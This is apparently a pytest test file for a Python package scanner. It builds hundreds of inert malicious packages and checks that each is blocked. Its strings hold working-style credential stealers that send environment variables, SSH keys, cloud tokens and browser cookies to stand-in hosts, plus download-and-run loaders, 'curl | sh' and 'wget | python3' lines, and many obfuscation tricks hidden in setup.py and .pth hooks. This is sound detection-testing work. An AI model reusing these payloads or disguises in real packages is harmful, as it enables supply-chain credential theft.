"""Every combination of what is stolen, how it leaves, how it hides and where it runs.

The sample corpus (`tests/samples`) holds one hand-written package per technique;
this matrix crosses five sources (the whole environment, host facts, the AWS
credentials file, an SSH key, one CI token) with five ways out (requests, urllib,
http.client, a raw socket, a chat webhook), three disguises (none, base64 and
hex around `exec`) and four places that run without being asked (`setup.py`, a
package `__init__`, a module the package imports, a `.pth` start-up hook). All
300 packages are inert text built here; each must be blocked.
"""

from __future__ import annotations

import base64
import bz2
import codecs
import itertools
import lzma
import marshal
import zlib
from pathlib import Path

import pytest

from pycustoms.config import Policy
from pycustoms.scan import scan_target
from pycustoms.types import Decision
from tests.builders import build_sdist, build_wheel

SOURCES = {
    "environment": ("import os", "dict(os.environ)"),
    "host facts": (
        "import socket, getpass, platform",
        "{'h': socket.gethostname(), 'u': getpass.getuser(), 'p': platform.platform()}",
    ),
    "aws file": ("import os", "open(os.path.expanduser('~/.aws/credentials')).read()"),
    "ssh key": ("import os", "open(os.path.expanduser('~/.ssh/id_rsa')).read()"),
    "ci token": ("import os", "os.environ.get('GITHUB_TOKEN', '')"),
}
SINKS = {
    "requests": ("import requests", "requests.post('http://198.51.100.17:8080/x', data=str(DATA))"),
    "urllib": (
        "import urllib.request",
        "urllib.request.urlopen('http://198.51.100.17/x', data=str(DATA).encode())",
    ),
    "http.client": (
        "import http.client",
        "c = http.client.HTTPConnection('198.51.100.17'); c.request('POST', '/x', str(DATA))",
    ),
    "socket": (
        "import socket",
        "s = socket.create_connection(('198.51.100.17', 9001)); s.sendall(str(DATA).encode())",
    ),
    "webhook": (
        "import requests",
        "requests.post('https://discord.com/api/webhooks/1234567890123/"
        "AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdefghijklmnopqrst', json={'content': str(DATA)})",
    ),
}
DISGUISES = ("plain", "base64", "hex")
PLACES = ("setup.py", "__init__", "imported module", ".pth hook")


def _payload(source: str, sink: str, disguise: str) -> str:
    imports, expression = SOURCES[source]
    sink_import, send = SINKS[sink]
    body = (
        f"{imports}\n{sink_import}\ntry:\n    DATA = {expression}\n"
        f"    {send}\nexcept Exception:\n    pass\n"
    )
    if disguise == "base64":
        return f"import base64\nexec(base64.b64decode({base64.b64encode(body.encode())!r}))\n"
    if disguise == "hex":
        return f"exec(bytes.fromhex({body.encode().hex()!r}).decode())\n"
    return body


def _package(directory: Path, place: str, payload: str) -> Path:
    if place == "setup.py":
        setup = payload + "\nfrom setuptools import setup\nsetup(name='matrix')\n"
        return build_sdist(
            directory, "matrix", "1.0", {"setup.py": setup, "matrix/__init__.py": ""}
        )
    if place == "__init__":
        return build_wheel(directory, "matrix", "1.0", {"matrix/__init__.py": payload})
    if place == "imported module":
        files = {"matrix/__init__.py": "from . import core\n", "matrix/core.py": payload}
        return build_wheel(directory, "matrix", "1.0", files)
    files = {
        "matrix/__init__.py": "",
        "matrix_hook.py": payload,
        "matrix.pth": "import matrix_hook\n",
    }
    return build_wheel(directory, "matrix", "1.0", files)


def _blocked_in_init_and_module(payload: str, tmp_path: Path) -> None:
    """*payload* as a package's `__init__` and as a module it imports: blocked both ways."""
    for place in ("__init__", "imported module"):
        directory = tmp_path / place.replace(" ", "_")
        directory.mkdir()
        result = scan_target(_package(directory, place, payload), Policy())
        assert result.error is None, result.error  # a failed scan blocks too, but proves nothing
        rules = sorted({f.rule for f in result.verdict.findings})
        assert result.verdict.decision is Decision.BLOCK, (place, rules)


def _allowed(payload: str, tmp_path: Path, place: str) -> None:
    """*payload* at *place* in a package: scanned without error and allowed."""
    result = scan_target(_package(tmp_path, place, payload), Policy())
    assert result.error is None, result.error
    assert result.verdict.decision is Decision.ALLOW, result.verdict.findings


@pytest.mark.parametrize(("source", "sink"), list(itertools.product(SOURCES, SINKS)), ids=str)
def test_every_disguise_and_place_is_blocked(source: str, sink: str, tmp_path: Path) -> None:
    missed = []
    for disguise, place in itertools.product(DISGUISES, PLACES):
        directory = tmp_path / f"{disguise}-{place}".replace(" ", "_").replace(".", "")
        directory.mkdir()
        result = scan_target(_package(directory, place, _payload(source, sink, disguise)), Policy())
        assert result.error is None, result.error  # a failed scan blocks too, but proves nothing
        if result.verdict.decision is not Decision.BLOCK:
            rules = sorted({f.rule for f in result.verdict.findings})
            missed.append(f"{disguise} / {place}: {result.verdict.decision.value} {rules}")
    assert not missed, "\n".join(missed)


# -- ways to hide one payload ----------------------------------------------------------------

BODY = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('http://198.51.100.17/x', data=str(dict(os.environ)).encode())\n"
)
_B64 = base64.b64encode(BODY.encode()).decode()
_CODE = marshal.dumps(compile(BODY, "payload", "exec"))
_PICKLE = b"cos\nsystem\n(S'curl -s http://198.51.100.17/x | sh'\ntR."
_ZLIB = base64.b64encode(zlib.compress(BODY.encode())).decode()
_LZMA = base64.b85encode(lzma.compress(BODY.encode())).decode()
_BZ2 = base64.b32encode(bz2.compress(BODY.encode())).decode()
HIDDEN = {
    "zlib+base64": f"import zlib, base64\nexec(zlib.decompress(base64.b64decode({_ZLIB!r})))\n",
    "lzma+base85": f"import lzma, base64\nexec(lzma.decompress(base64.b85decode({_LZMA!r})))\n",
    "bz2+base32": f"import bz2, base64\nexec(bz2.decompress(base64.b32decode({_BZ2!r})))\n",
    "marshal": f"import marshal\nexec(marshal.loads({_CODE!r}))\n",
    "rot13": f"import codecs\nexec(codecs.decode({codecs.encode(BODY, 'rot13')!r}, 'rot13'))\n",
    "reversed": f"exec({BODY[::-1]!r}[::-1])\n",
    "getattr(builtins)": "import builtins, base64\n"
    f"getattr(builtins, 'ex' + 'ec')(base64.b64decode({_B64!r}))\n",
    "__import__ chain": f"__import__('builtins').exec(__import__('base64').b64decode({_B64!r}))\n",
    "import_module(built name)": "import importlib\nb = importlib.import_module('base' + '64')\n"
    f"exec(b.b64decode({_B64!r}))\n",
    "compile+eval": f"import base64\neval(compile(base64.b64decode({_B64!r}), '<x>', 'exec'))\n",
    "lambda": f"import base64\n(lambda c: exec(c))(base64.b64decode({_B64!r}))\n",
    "chr codes": f"exec(''.join(chr(c) for c in {[ord(c) for c in BODY]!r}))\n",
    "xor": f"k = 42\nexec(bytes(b ^ k for b in {bytes(b ^ 42 for b in BODY.encode())!r}))\n",
    "split base64": f"import base64\na = {_B64[:40]!r}\nb = {_B64[40:]!r}\n"
    "exec(base64.b64decode(a + b))\n",
    "pickle": f"import pickle, base64\npickle.loads(base64.b64decode({base64.b64encode(_PICKLE)!r}))\n",
    "FunctionType(marshal)": "import marshal, types\n"
    f"types.FunctionType(marshal.loads({_CODE!r}), globals())()\n",
    "globals()['__builtins__']": "import base64\n"
    f"globals()['__builtins__']['exec'](base64.b64decode({_B64!r}))\n",
    "vars(builtins)": "import base64, builtins\n"
    f"vars(builtins)['exec'](base64.b64decode({_B64!r}))\n",
    "exec under another name": f"f = exec\np = bytes.fromhex({BODY.encode().hex()!r})\nf(p)\n",
    "python -c in a child": f"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', {BODY!r}])\n",
    "written out and run": "import base64, os, subprocess, sys, tempfile\n"
    "p = os.path.join(tempfile.gettempdir(), 'x.py')\n"
    f"open(p, 'w').write(base64.b64decode({_B64!r}).decode())\n"
    "subprocess.Popen([sys.executable, p])\n",
}


@pytest.mark.parametrize("way", list(HIDDEN), ids=list(HIDDEN))
def test_every_way_of_hiding_is_blocked_in_every_place(way: str, tmp_path: Path) -> None:
    missed = []
    for place in PLACES:
        directory = tmp_path / place.replace(" ", "_").replace(".", "")
        directory.mkdir()
        result = scan_target(_package(directory, place, HIDDEN[way]), Policy())
        assert result.error is None, result.error
        if result.verdict.decision is not Decision.BLOCK:
            rules = sorted({f.rule for f in result.verdict.findings})
            missed.append(f"{place}: {result.verdict.decision.value} {rules}")
    assert not missed, "\n".join(missed)


# -- files worth stealing, sent by a module the package imports -----------------------------

SEND = "requests.post('http://198.51.100.5/u', data=open(os.path.expanduser({path!r})).read())\n"
STOLEN = (
    "~/.git-credentials",
    "~/.kube/config",
    "~/.docker/config.json",
    "~/.bash_history",
    "~/.zsh_history",
    ".env",
    "~/.config/gcloud/application_default_credentials.json",
    "~/.azure/msal_token_cache.json",
    "~/.vault-token",
)
DROPPED = (
    "import os, requests, runpy, tempfile\n"
    "p = os.path.join(tempfile.gettempdir(), 'u.py')\n"
    "open(p, 'w').write(requests.get('http://198.51.100.5/u.py').text)\n"
    "runpy.run_path(p)\n"
)


@pytest.mark.parametrize("payload", [*(SEND.format(path=p) for p in STOLEN), DROPPED])
def test_a_module_that_only_talks_to_the_network_is_still_read(
    payload: str, tmp_path: Path
) -> None:
    body = payload if payload.startswith("import") else "import os, requests\n" + payload
    _blocked_in_init_and_module(body, tmp_path)


# -- browser stores copied before they are read, and files started by association ----------

COPIED = {
    # Browsers lock their databases: stealers copy them to a temporary file first.
    "copy to a variable, upload the file": (
        "import os, shutil, tempfile, requests\n"
        "src = os.path.join(os.getenv('LOCALAPPDATA', ''), 'Google', 'Chrome', 'User Data', "
        "'Default', 'Login Data')\n"
        "dst = os.path.join(tempfile.gettempdir(), 'ld.db')\n"
        "shutil.copy2(src, dst)\n"
        "requests.post('https://example.org/c', files={'f': open(dst, 'rb')})\n"
    ),
    "copy to a literal path, read it back": (
        "import os, shutil, requests\n"
        "shutil.copyfile(os.path.expanduser('~/.config/google-chrome/Default/Login Data'), "
        "'ld.db')\n"
        "requests.post('https://example.org/c', data=open('ld.db', 'rb').read())\n"
    ),
    "copy, then query with sqlite3": (
        "import os, shutil, sqlite3, requests\n"
        "shutil.copy(os.path.expanduser('~/.config/google-chrome/Default/Cookies'), '/tmp/c')\n"
        "rows = sqlite3.connect('/tmp/c').execute('select name, encrypted_value from cookies')\n"
        "requests.post('https://example.org/c', json=[list(map(str, r)) for r in rows])\n"
    ),
    "a downloaded program started by association": (
        "import os, tempfile, urllib.request\n"
        "p = os.path.join(tempfile.gettempdir(), 'update.exe')\n"
        "urllib.request.urlretrieve('http://198.51.100.23/update.exe', p)\n"
        "os.startfile(p)\n"
    ),
}


@pytest.mark.parametrize("payload", list(COPIED.values()), ids=list(COPIED))
def test_copied_stores_and_started_downloads_are_blocked(payload: str, tmp_path: Path) -> None:
    _blocked_in_init_and_module(payload, tmp_path)


def test_a_copied_ordinary_file_carries_nothing(tmp_path: Path) -> None:
    # The same copy-then-upload shape with a project file: a backup uploader, not a stealer.
    payload = (
        "import shutil, requests\n"
        "def backup():\n"
        "    shutil.copy('settings.ini', '/tmp/settings.bak')\n"
        "    requests.post('https://example.org/b', data=open('/tmp/settings.bak', 'rb').read())\n"
    )
    _allowed(payload, tmp_path, "imported module")


# -- code that runs at import without a plain call, and secrets printed by commands ------------

_SEND = (
    "import os, json, urllib.request\n"
    "def _send(*args):\n"
    "    urllib.request.urlopen('https://collector.example-metrics.net/u', "
    "data=json.dumps(dict(os.environ)).encode())\n"
)
_POST = "requests.post('https://collector.example-metrics.net/u', data={out})\n"
RUN_UNASKED = {
    "a decorator": _SEND + "@_send\ndef api():\n    pass\n",
    "a metaclass": _SEND + "class Meta(type):\n    def __init__(cls, *args):\n        _send()\n"
    "        super().__init__(*args)\nclass Model(metaclass=Meta):\n    pass\n",
    "an import-system finder": _SEND + "import sys\nclass Finder:\n"
    "    def find_spec(self, *args):\n        _send()\n        return None\n"
    "sys.meta_path.insert(0, Finder())\n",
    "a module __getattr__": _SEND + "def __getattr__(name):\n    _send()\n"
    "    raise AttributeError(name)\n",
    "the output of env": "import subprocess, requests\n"
    "out = subprocess.check_output(['env']).decode()\n" + _POST.format(out="out"),
    "a GitHub CLI token": "import subprocess, requests\n"
    "tok = subprocess.check_output(['gh', 'auth', 'token']).decode()\n" + _POST.format(out="tok"),
    "exported cloud credentials": "import subprocess, requests\n"
    "creds = subprocess.check_output('aws configure export-credentials', shell=True)\n"
    + _POST.format(out="creds"),
    "git credentials from config": "import subprocess, requests\n"
    "out = subprocess.check_output(['git', 'config', '--get-regexp', 'credential|token'])\n"
    + _POST.format(out="out"),
}


@pytest.mark.parametrize("payload", list(RUN_UNASKED.values()), ids=list(RUN_UNASKED))
def test_code_run_unasked_and_printed_secrets_are_blocked(payload: str, tmp_path: Path) -> None:
    _blocked_in_init_and_module(payload, tmp_path)


def test_registering_decorators_and_lazy_getattr_are_ordinary(tmp_path: Path) -> None:
    payload = (
        "import importlib, subprocess, requests\n"
        "HANDLERS = {}\n"
        "def register(func):\n    HANDLERS[func.__name__] = func\n    return func\n"
        "@register\ndef fetch(url):\n    return requests.get(url).json()\n"
        "def __getattr__(name):\n"
        "    if name in ('sub',):\n        return importlib.import_module('.' + name, __name__)\n"
        "    raise AttributeError(name)\n"
        "def revision():\n"
        "    return subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode().strip()\n"
    )
    _allowed(payload, tmp_path, "__init__")


# -- downloads loaded as modules or started through the Windows API, and more disguises ---------

_DOWNLOAD = (
    "import os, sys, tempfile, urllib.request\n"
    "d = tempfile.mkdtemp()\n"
    "p = os.path.join(d, 'stage2.py')\n"
    "open(p, 'wb').write(urllib.request.urlopen('https://198.51.100.4/s').read())\n"
)
_LAYERED = base64.b64encode(zlib.compress(BODY.encode())).decode()[::-1]
LOADED = {
    "imported after sys.path.insert": _DOWNLOAD + "sys.path.insert(0, d)\nimport stage2\n",
    "loaded with exec_module": _DOWNLOAD + "import importlib.util\n"
    "spec = importlib.util.spec_from_file_location('stage2', p)\n"
    "spec.loader.exec_module(importlib.util.module_from_spec(spec))\n",
    "started with WinExec": _DOWNLOAD
    + "import ctypes\nctypes.windll.kernel32.WinExec(p.encode(), 0)\n",
    "started with ShellExecuteW": _DOWNLOAD
    + "import ctypes\nctypes.windll.shell32.ShellExecuteW(None, 'open', p, None, None, 0)\n",
    "a decoding lambda": "_ = lambda s: __import__('zlib').decompress("
    f"__import__('base64').b64decode(s[::-1]))\nexec(_({_LAYERED!r}))\n",
    "a download piped into python": "import subprocess\n"
    "subprocess.call('wget -q -O - http://198.51.100.4/x | python3', shell=True)\n",
    "a credential folder globbed": "import glob, os, requests\n"
    "for f in glob.glob(os.path.expanduser('~/.aws/*')):\n"
    "    requests.post('https://example.org/a', data=open(f).read())\n",
}


@pytest.mark.parametrize("payload", list(LOADED.values()), ids=list(LOADED))
def test_loaded_downloads_and_layered_disguises_are_blocked(payload: str, tmp_path: Path) -> None:
    _blocked_in_init_and_module(payload, tmp_path)


def test_plugin_paths_and_lambdas_are_ordinary(tmp_path: Path) -> None:
    payload = (
        "import os, sys, importlib.util, requests\n"
        "HERE = os.path.dirname(__file__)\n"
        "sys.path.insert(0, os.path.join(HERE, 'vendor'))\n"
        "import six\n"
        "def load_plugin(path):\n"
        "    spec = importlib.util.spec_from_file_location('plugin', path)\n"
        "    module = importlib.util.module_from_spec(spec)\n"
        "    spec.loader.exec_module(module)\n"
        "    return module\n"
        "key = lambda item: item.lower()\n"
        "def latest():\n"
        "    return sorted(requests.get('https://example.org/v').json(), key=key)[-1]\n"
    )
    _allowed(payload, tmp_path, "__init__")
